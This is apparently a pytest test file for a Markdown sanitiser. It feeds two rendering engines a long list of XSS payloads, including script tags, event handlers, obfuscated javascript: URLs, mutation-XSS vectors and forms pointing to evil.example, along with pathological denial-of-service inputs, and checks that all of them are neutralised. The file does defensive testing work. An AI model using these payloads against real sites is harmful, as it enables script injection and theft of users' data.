"""What an editor commits can do no harm: either it is refused, or a browser sees nothing in it but what is allowed."""

from __future__ import annotations

import re
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import PurePosixPath
from xml.etree.ElementTree import Element

import html5lib
import hypothesis
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from plugins.model.problem import Problem
from plugins.model.text import Body
from plugins.reading import sanitiser
from plugins.reading.engine import RAW, MarkdownEngine
from plugins.reading.manner import Engine
from plugins.reading.sanitiser import EVERYWHERE, SCHEMES, WRITABLE, Cleaned, Sanitiser

ROOT = PurePosixPath(__file__).parents[2]
ENGINES: dict[Engine, MarkdownEngine] = {"comrak": MarkdownEngine("comrak"), "markdown": MarkdownEngine("markdown")}

# What finishing adds to what an editor may write: literal here, so that a wider allow-list has to be wanted twice.
FINISHED = {
    "a": {"id", "role", "aria-label", "class"},
    "code": {"class"},
    "div": {"class", "role", "tabindex", "aria-label"},
    "figcaption": set[str](),
    "figure": set[str](),
    "h1": {"id"},
    "h2": {"id"},
    "h3": {"id"},
    "h4": {"id"},
    "h5": {"id"},
    "h6": {"id"},
    "li": {"class", "id"},
    "section": {"class", "role", "aria-label"},
    "span": {"role", "aria-label"},
    "sup": {"class"},
    "td": {"class"},
    "th": {"class", "scope"},
}
CLASSES = {
    "a": {"footnote-backref"},
    "div": {"table"},
    "li": {"task"},
    "section": {"footnotes"},
    "sup": {"footnote-ref"},
    "td": {"align-left", "align-center", "align-right"},
    "th": {"align-left", "align-center", "align-right"},
}


class Everything:
    """A resolver that lets everything through: safety must not rest on it."""

    def link(self, href: str, line: int) -> str:
        assert line >= 1
        return href

    def file(self, url: str) -> tuple[str, str]:
        return url.rpartition(".")[2], "1 kB"

    def image(self, src: str, alt: str, line: int) -> str:
        assert line >= 1
        assert isinstance(alt, str)
        return "<img>" if src else ""


def rendered(engine: Engine, markdown: str) -> tuple[Body, tuple[Problem, ...]]:
    return ENGINES[engine].render(markdown, path=PurePosixPath("a.md"), first_line=1, resolver=Everything(), lang="lt")


def elements(shown: str) -> Iterator[Element]:
    """Yield what a browser would make of `shown`."""
    root = html5lib.parseFragment(shown, namespaceHTMLElements=True)
    yield from (element for element in root.iter() if element is not root)


def assert_harmless(shown: str) -> None:
    for element in elements(shown):
        assert isinstance(element.tag, str), "a comment"
        namespace, _, name = element.tag.removeprefix("{").partition("}")
        assert namespace == "http://www.w3.org/1999/xhtml", element.tag
        assert name in WRITABLE or name in FINISHED, name
        allowed = WRITABLE.get(name, frozenset()) | EVERYWHERE | FINISHED.get(name, set())
        assert set(element.attrib) <= allowed, (name, element.attrib)
        if name == "code":
            assert element.get("class", "language-").startswith("language-")
        elif "class" in element.attrib:
            assert element.attrib["class"] in CLASSES[name]
        if "id" in element.attrib:
            assert element.attrib["id"].startswith(("h-", "fn-", "fnref-"))
        # As browsers read addresses (WHATWG URL, 4.4): line breaks and tabs count for nothing, nor does what is before.
        address = re.sub(r"[\t\n\r]", "", element.get("href", "")).lstrip("".join(map(chr, range(33))))
        scheme = re.match(r"[A-Za-z][A-Za-z0-9+.-]*(?=:)", address)
        assert scheme is None or scheme[0].lower() in SCHEMES, address


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" alt="y" onerror="alert(1)">',
    "<img src='x' alt='y'onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<image src=x onerror=alert(1)>",
    "<b onclick=alert(1)>x</b>",
    "<b/onclick=alert(1)>x</b>",
    "<b\nonmouseover\n=\nalert(1)>x</b>",
    "<p onpointerenter='alert(1)'>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="</p><img src=x onerror=alert(1)>"><b>',
    "<textarea><script>alert(1)</script></textarea>",
    '<title><a title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<plaintext>x",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="https://evil.example/"><input name=password></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input type=image src=x onerror=alert(1)>",
    '<input type="checkbox" disabled>',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<b style="position:fixed;inset:0">x</b>',
    '<div class="site-header">x</div>',
    '<p id="main">x</p>',
    '<a name="main">x</a>',
    '<a id="fn-1" href="x">y</a>',
    '<a href="x" target="_blank">y</a>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://a.lt/1">x</a>',
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java&#115;cript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](JAVASCRIPT:alert(1) 'title')",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](blob:abc)",
    "<javascript:alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<!-- x --!><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "<?php system('id') ?>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<div>\n<b onclick=alert(1)>x</b>\n</div>",
    "> <b onclick=alert(1)>x</b>",
    "- <script>alert(1)</script>",
    "| a |\n|---|\n| <b onclick=alert(1)>x</b> |",
    "x[^1]\n\n[^1]: <b onclick=alert(1)>x</b>",
    "## <b onclick=alert(1)>x</b>",
    "<table><tr><td><form>x</form></td></tr></table>",
    "</section></main><p>x</p>",
    "<p>x</div></p>",
    "<b>x",
    "<custom-element>x</custom-element>",
    "<a href=x>y<a href=z>w</a></a>",
    "<table>x<tr><td>y</td></tr></table>",
    "<span data-sourcepos=x>y</span>",
    "<b data-line=1>y</b>",
    "<details><summary onclick=alert(1)>x</summary></details>",
    "<abbr title=x xml:base='javascript:alert(1)'>y</abbr>",
    "<q cite=javascript:alert(1)>x</q>",
    "<ins cite=javascript:alert(1)>x</ins>",
    "<td background=javascript:alert(1)>x</td>",
    "<ol start=1 type=a onfocus=alert(1) tabindex=0 autofocus><li>x</li></ol>",
    "<b contenteditable onbeforeinput=alert(1)>x</b>",
    "<b popover id=x>y</b>",
    "<b is=x-y>z</b>",
    "<b slot=x>z</b>",
    "<p hidden>x</p>",
]  # fmt: skip


@pytest.mark.parametrize("engine", ["comrak", "markdown"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_refused(engine: Engine, attack: str) -> None:
    """What an engine takes for plain words is shown as such; whatever it takes for HTML or an address is refused."""
    for around in ("{}", "a\n\n{}\n\nb", "*a* {} b"):
        body, problems = rendered(engine, around.format(attack))

        assert_harmless(body.html)
        if not problems:
            assert {element.tag.partition("}")[2] for element in elements(body.html)} <= {"p", "em"}


def test_most_attacks_are_no_plain_words() -> None:
    """Else the test above would say little."""
    assert sum(1 for attack in ATTACKS if not rendered("comrak", attack)[1]) <= 5
    assert sum(1 for attack in ATTACKS if not rendered("markdown", attack)[1]) <= 15


HARMLESS = [
    "a < b && c > d; 1<2; x<y",
    "I <3 you",
    "AT&T &amp; co &copy; &nbsp; &#34; &notanentity;",
    "a\u00a0b\u00adc\u200bd",
    "<b>a</b> <i>b</i> <u>c</u> <s>d</s> <small>e</small> <q>f</q> <cite>g</cite> <mark>h</mark>",
    '<a href="https://a.lt/?b=1&c=2">d</a>',
    '<a href="mailto:a@b.lt?subject=x%20y">d</a> <a href="tel:+37052345678">e</a> [f](tel:+4712345678)',
    "<p>a</p>\n\n<ul>\n<li>b</li>\n</ul>",
    "<table><tr><td>a</td></tr></table>",
    "<table>\n<caption>a</caption>\n<thead>\n<tr><th scope=col>b</th></tr>\n</thead>\n<tbody>\n<tr><td>c</td></tr>\n</tbody>\n</table>",
    "<dl>\n<dt>a</dt>\n<dd>b</dd>\n</dl>",
    '<blockquote lang="nb">\n<p>a</p>\n</blockquote>',
    "<div lang='en'>\n\n*a*\n\n</div>",
    "<div>a &lt; b & c > d \"e\" 'f'</div>",
    "<pre>\na\n</pre>",
    "<Details OPEN><Summary>a</Summary>b</Details>",
    "<abbr title='5 > 3 & 2'>a</abbr>",
    "```html\n<script>alert(1)</script>\n<!-- x -->\n```",
    "`<b onclick=x>` and ``<!-- ` -->``",
    "    <script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[a]: javascript-the-good-parts.md\n\n[a]",
    "javascript:alert(1) and onclick=x in running text",
    "| a | b |\n|:-:|---|\n| `x` \\| y | <br> |",
    "- [x] a\n- [ ] b",
    "a[^1] b[^ąž]\n\n[^1]: c *d*\n[^ąž]: e",
    "~~a~~ www.a.lt https://b.lt/x_y_z. c@d.lt",
    "\u202da\u202c 😀 \U0001f1f1\U0001f1f9",
]  # fmt: skip


@pytest.mark.parametrize("engine", ["comrak", "markdown"])
@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_is_not_refused(engine: Engine, text: str) -> None:
    body, problems = rendered(engine, text)

    assert problems == ()
    assert body.html
    assert_harmless(body.html)


@pytest.mark.parametrize("engine", ["comrak", "markdown"])
def test_nothing_is_lost_of_what_is_not_refused(engine: Engine) -> None:
    body, problems = rendered(engine, "<div>a &lt; b & c > d \"e\"</div>\n\n<abbr title='5 > 3'>f</abbr>")

    assert problems == ()
    assert body.plain == 'a < b & c > d "e" f'
    assert [element.attrib for element in elements(body.html) if "abbr" in element.tag] == [{"title": "5 > 3"}]


def test_the_sanitiser_writes_no_sign_of_a_tag_within_a_tag() -> None:
    """All that works on its output by regular expressions rests on this."""
    assert Sanitiser().clean("<p title='a>b<c\"d'>e</p>").html == '<p title="a&gt;b&lt;c&quot;d">e</p>'


def test_what_is_clean_stays_as_it_is_when_cleaned_again() -> None:
    own = Sanitiser()
    for attack in ATTACKS + HARMLESS:
        once = own.clean(attack).html
        assert own.clean(once).html == once


PIECES = st.sampled_from(
    [
        *"<>/\"'=&;#:!?[](){}*_`~|-+.\\ \n\t^", "\n\n", "\n> ", "\n- ", "\n1. ", "\n    ", "\n## ", "\n```\n", "\n| a | b |\n|---|---|\n| ",
        "a", "ž", "b onclick=x", "script", "img", "svg", "math", "style", "title", "table", "td", "details", "summary", "div", "p", "h1", "h2",
        "<b>", "</b>", "<b ", "<a href=", "</a>", "<div>", "</div>", "<p>", "</p>", "<td>", "<table>", "</table>", "<tr>", "<sup>", "</sup>",
        "<br>", "<br/>", "<img src=x alt=y>", "<!--", "-->", "<!", "<?", "?>", "<![CDATA[", "]]>", "<script>", "</script>", "<svg>", "<style>",
        "javascript:", "data:", "https://a.lt/", "www.a.lt", "mailto:", "[a](", "![a](", "](", "[^1]", "\n\n[^1]: ", "\n\n[a]: ", "[x] ",
        " onclick=x", ' class="', ' id="', ' title="', " data-line=1", ' data-sourcepos="1:1-1:2"', "{filename}", "&lt;", "&quot;", "&#106;", "&Tab;",
        "\u00a0", "\u2028", "\ufeff", "\x0c", "\x00", "„", "“",
    ]
)  # fmt: skip


@pytest.mark.parametrize("engine", ["comrak", "markdown"])
@settings(max_examples=150, deadline=None)
@given(pieces=st.lists(PIECES, max_size=30))
def test_no_text_shows_more_than_is_allowed(engine: Engine, pieces: list[str]) -> None:
    body, problems = rendered(engine, "".join(pieces))

    assert_harmless(body.html)
    if not problems:
        assert "<script" not in body.html


def either_way(engine: Engine, markdown: str) -> tuple[Cleaned, Cleaned]:
    """Return what the sanitiser makes of a text if it is told that the engine alone has written it, and if it is not."""
    html, own = ENGINES[engine]._dialect.html(markdown), Sanitiser()
    return own.clean(html, well_formed=True), own.clean(html)


@pytest.mark.parametrize("engine", ["comrak", "markdown"])
@settings(max_examples=300, deadline=None)
@given(pieces=st.lists(PIECES, max_size=30))
@hypothesis.example(pieces=["www.a.lt", ">"])  # a host that none can be called: nh3 takes the address away
@hypothesis.example(pieces=["\x00"])  # a sign that is none: nh3 takes it away
def test_what_nh3_is_not_asked_about_it_would_have_written_alike(engine: Engine, pieces: list[str]) -> None:
    markdown = "".join(pieces)
    hypothesis.assume(not RAW.search(markdown) and not ENGINES[engine]._dialect.too_much(markdown))
    quickly, by_nh3 = either_way(engine, markdown)
    assert quickly == by_nh3


@pytest.mark.parametrize("text", [each for each in ATTACKS + HARMLESS if not RAW.search(each)])
def test_what_nh3_is_not_asked_about_is_harmless(text: str) -> None:
    quickly, by_nh3 = either_way("comrak", text)
    assert quickly == by_nh3


@pytest.mark.parametrize(
    "text",
    [
        'A **day** in *Oslo*, ~~one~~ two; `code`: “a” & b < c > d "e".\n\n## Why\n\n> It is.\n\n1. a\n2. b\n\n- c\n  - d\n\n***',
        "[a](https://a.lt/b?c=d%20e#f) [b]({filename}../b/index.lt.md) [c](#h-d) [d](mailto:e@f.lt) <https://a.lt> g\\\nh",
        "22\N{NO-BREAK SPACE}d.",
    ],
)
def test_nh3_is_not_asked_about_what_most_texts_have(text: str) -> None:
    assert sanitiser._harmless(ENGINES["comrak"]._dialect.html(text)) is not None


@pytest.mark.parametrize("engine", ["comrak", "markdown"])
@settings(max_examples=100, deadline=None)
@given(text=st.text(st.sampled_from("ab ąž.,*_`[]()!#>-\n1"), max_size=60))
def test_words_without_html_are_never_called_unsafe(engine: Engine, text: str) -> None:
    _, problems = rendered(engine, text)
    assert not {problem.check for problem in problems} & {"unsafe-html", "unsafe-address"}


def of_length(piece: str, length: int = 20_000) -> str:
    return piece * (length // len(piece))


BOMBS = {
    "brackets": of_length("["),
    "picture brackets": of_length("!["),
    "link beginnings": of_length("[a]("),
    "links in tags": of_length("[a](<b"),
    "quotations": of_length(">"),
    "quotations with spaces": of_length("> "),
    "lists": of_length("- "),
    "deep list": "".join("  " * level + "- a\n" for level in range(140)),
    "emphasis": of_length("*a **a "),
    "nested emphasis": of_length("*", 10_000) + "a" + of_length("*", 10_000),
    "underscores": of_length("_ a_"),
    "struck": of_length("~~a "),
    "code": "".join("`" * number + " " for number in range(200)),
    "table of 10,000 cells": "|a" * 100 + "|\n" + "|-" * 100 + "|\n" + ("|1" * 100 + "|\n") * 100,
    "wide table": "|a" * 5_000 + "|\n" + "|-" * 5_000 + "|\n|1|\n",
    "notes": "".join(f"[^{n}]" for n in range(1_000)) + "\n\n" + "".join(f"[^{n}]: x\n" for n in range(1_000)),
    "one note": of_length("[^1]") + "\n\n[^1]: x",
    "less-than signs": of_length("<"),
    "comments": of_length("<!-- "),
    "open tags": of_length("<b>"),
    "open blocks": of_length("<div>\n"),
    "closing tags": of_length("</b>"),
    "crossed tags": of_length("<b></i>"),
    "attributes": "<b " + of_length('a="<b '),
    "unclosed attributes": of_length('<div a="'),
    "scripts": of_length("<script>\n"),
    "headings": of_length("## a\n"),
    "underlined headings": of_length("a\n=\n"),
    "bare addresses": of_length("www."),
    "at signs": of_length("a@"),
    "entities": of_length("&amp;"),
    "backslashes": of_length("\\"),
    "spaces": "a" + of_length(" ") + "b",
    "bad addresses": of_length("[a](javascript:b) "),
    "missing anchors": of_length("[a](#b) "),
    "pictures": of_length("![a](b.jpg)\n\n"),
    "mixture": of_length("*_`[<&!~"),
}


@pytest.mark.parametrize("engine", ["comrak", "markdown"])
@pytest.mark.parametrize("bomb", BOMBS)
def test_no_text_takes_more_than_a_moment(engine: Engine, bomb: str) -> None:
    """20 kB each; most take a hundredth of this limit, which leaves room for slow machines."""
    begin = time.process_time()
    rendered(engine, BOMBS[bomb])
    assert time.process_time() - begin < 3


LONG_ROWS = {
    "ticks": "[^1] " + "`" * 100_000,
    "ticks behind strokes": "[^1] " + "\\`" * 50_000,
    "spaces in the rule of a table": "[^1]\n\n| a | b |\n|-|-" + " " * 100_000 + "x",
    "spaces between pictures": '![a](b.jpg "c")' + " " * 100_000 + "x",
    "call-outs": "> [!NOTE] a\n>\n" * 14_000,
    "who has said it": "> a\n>\n> — " + "&nbsp;" * 30_000 + "b",
    "spaces before the rule of a table": "[^1]\n\n| a | b |\n>" + " " * 100_000 + "|-|x",
}


@pytest.mark.parametrize("row", LONG_ROWS)
def test_a_row_that_is_nearly_as_long_as_a_text_may_be_takes_no_more_than_a_moment(row: str) -> None:
    """What takes time in proportion to the square of a length shows only here."""
    begin = time.process_time()
    rendered("comrak", LONG_ROWS[row])
    assert time.process_time() - begin < 3


@pytest.mark.parametrize(
    ("markdown", "check"),
    [(">" * 200 + " a", "too-deep"), ("*" * 500 + "a" + "*" * 500, "too-deep"), ("a\n\n" * 80_000, "too-much")],
)
def test_what_is_too_much_says_so(markdown: str, check: str) -> None:
    body, problems = rendered("comrak", markdown)
    assert [problem.check for problem in problems] == [check]
    assert body.html == ""


@pytest.mark.parametrize(
    ("markdown", "line"), [("a\n\n" + "[" * 300, 3), (">" * 200 + " a", 1), ("a\n\n" * 40_000, 66_667)]
)
def test_python_markdown_refuses_what_would_keep_it_busy(markdown: str, line: int) -> None:
    _, problems = rendered("markdown", markdown)
    assert [(problem.check, problem.line) for problem in problems] == [("too-much", line)]


@pytest.mark.parametrize("engine", ["comrak", "markdown"])
def test_deep_nesting_does_not_bring_the_process_down(engine: Engine) -> None:
    """In a process of its own: an overflow of the stack ends it without a word."""
    script = """
import sys
from pathlib import PurePosixPath
from plugins.reading.engine import MarkdownEngine
engine = MarkdownEngine(sys.argv[1])
for text in (">" * 10_000 + " a", "- " * 10_000, "<b>" * 30_000, "<div>" * 30_000, "[" * 50_000 + "]" * 50_000,
             "*" * 20_000 + "a" + "*" * 20_000, "<div>\\n\\n" * 10_000):
    engine.render(text, path=PurePosixPath("a.md"), first_line=1, resolver=None, lang="lt")
print("whole")
"""
    done = subprocess.run(
        [sys.executable, "-c", script, engine], cwd=ROOT, capture_output=True, text=True, timeout=60, check=False
    )
    assert (done.returncode, done.stdout, done.stderr) == (0, "whole\n", "")
